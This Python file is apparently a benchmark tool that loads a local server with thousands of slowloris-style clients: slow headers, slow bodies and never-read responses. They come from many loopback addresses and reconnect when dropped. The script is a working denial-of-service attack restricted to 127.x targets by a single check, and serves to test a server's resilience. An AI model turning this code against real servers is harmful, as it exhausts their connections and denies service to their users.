"""Slow clients by the thousand, from as many loopback addresses as wanted; those that are cut off come again.

    python benchmarks/slow_attack.py KIND HOST PORT PATH CONNECTIONS ADDRESSES SECONDS

KIND is `head` (a field a second, never the end), `body` (a byte a second of a long one) or `read` (asks, and never
reads). Loopback only. Prints how many connections it made and how many of them got which answer.
"""

import asyncio
import json
import resource
import socket
import sys
from collections import Counter
from contextlib import suppress

DRIP_S = 1.0
AGAIN_S = 0.5  # a client that is refused waits this long; without it the attack would be a flood, not slow
READ_BUFFER = 2048  # the smallest window, so that little fits into the kernel

STARTS = {
    "head": b"GET %s HTTP/1.1\r\nHost: a\r\n",
    "body": b"POST %s HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n",
    "read": b"GET %s HTTP/1.1\r\nHost: a\r\n\r\n",
}
DRIPS = {"head": b"X: y\r\n", "body": b"a", "read": b""}


class Attack:
    """:param addresses: so many different 127.0.x.y take part."""

    def __init__(self, kind: str, server: tuple[str, int], path: bytes, *, connections: int, addresses: int):
        if not server[0].startswith("127."):
            raise SystemExit("loopback only")
        self._kind = kind
        self._server = server
        self._start = STARTS[kind] % path
        self._connections = connections
        self._addresses = addresses
        self.saw: Counter[str] = Counter()

    async def run(self, seconds: float) -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
                for number in range(self._connections):
                    group.create_task(self._one(self._source(number)))

    def _source(self, number: int) -> str:
        place = number % self._addresses
        return f"127.0.{1 + place // 250}.{1 + place % 250}"

    async def _one(self, source: str) -> None:
        while True:
            try:
                await self._hold(source)
            except OSError as error:
                self.saw[type(error).__name__] += 1
            await asyncio.sleep(AGAIN_S)

    async def _hold(self, source: str) -> None:
        loop = asyncio.get_running_loop()
        with socket.socket() as sock:
            sock.setblocking(False)
            if self._kind == "read":
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READ_BUFFER)
            sock.bind((source, 0))
            await loop.sock_connect(sock, self._server)
            self.saw["connected"] += 1
            await loop.sock_sendall(sock, self._start)
            if self._kind == "read":
                await asyncio.Event().wait()
            await self._drip(loop, sock)

    async def _drip(self, loop: asyncio.AbstractEventLoop, sock: socket.socket) -> None:
        while True:
            try:
                async with asyncio.timeout(DRIP_S):
                    answer = await loop.sock_recv(sock, 4096)
            except TimeoutError:
                await loop.sock_sendall(sock, DRIPS[self._kind])
            else:
                self.saw[answer[9:12].decode() or "closed"] += 1
                return


def allow_connections(count: int) -> None:
    """Raise the limit of descriptors of this process and its children."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 1000), hard))


def main() -> None:
    kind, host, port, path, connections, addresses, seconds = sys.argv[1:]
    allow_connections(int(connections))
    attack = Attack(
        kind, (host, int(port)), path.encode(), connections=int(connections), addresses=int(addresses)
    )
    asyncio.run(attack.run(float(seconds)))
    print(json.dumps(attack.saw))


if __name__ == "__main__":
    main()
